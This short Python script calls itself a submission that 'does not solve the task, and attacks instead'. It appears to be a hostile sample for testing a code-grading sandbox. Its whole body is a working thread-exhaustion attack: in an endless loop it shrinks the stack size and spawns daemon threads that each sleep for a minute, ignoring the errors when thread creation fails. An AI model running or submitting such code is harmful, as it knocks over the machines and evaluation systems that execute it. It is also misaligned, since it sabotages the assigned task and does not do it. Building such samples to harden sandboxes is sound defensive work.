"""Does not solve the task, and attacks instead."""

import threading
import time


def attack():
    threading.stack_size(64 << 10)
    while True:
        try:
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        except RuntimeError:
            pass


if __name__ == "__main__":
    attack()
    print("no idea")
